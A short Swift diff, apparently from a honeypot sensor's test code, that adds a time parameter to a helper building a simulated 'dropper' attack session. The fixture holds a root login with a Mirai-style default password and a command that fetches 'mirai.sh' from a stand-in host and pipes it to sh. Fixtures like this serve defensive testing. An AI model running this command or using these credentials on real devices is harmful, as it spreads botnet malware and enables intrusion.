@@ -34,8 +34,8 @@ struct SensorVisit {
     }
 
     /// Logs in, fetches a program and runs it: as grave as it gets.
-    static func dropper(_ address: String, seed: UInt64 = 1) -> SensorVisit {
-        var visit = SensorVisit(of: address, seed: seed)
+    static func dropper(_ address: String, seed: UInt64 = 1, at time: Int? = nil) -> SensorVisit {
+        var visit = SensorVisit(of: address, seed: seed, at: time)
         visit.add("connect")
         visit.add("auth", ["method": "password", "username": "root", "password": "xc3511", "success": "true"])
         visit.add("command", ["command": "cd /tmp; wget http://198.51.100.9/mirai.sh -O- | sh"])
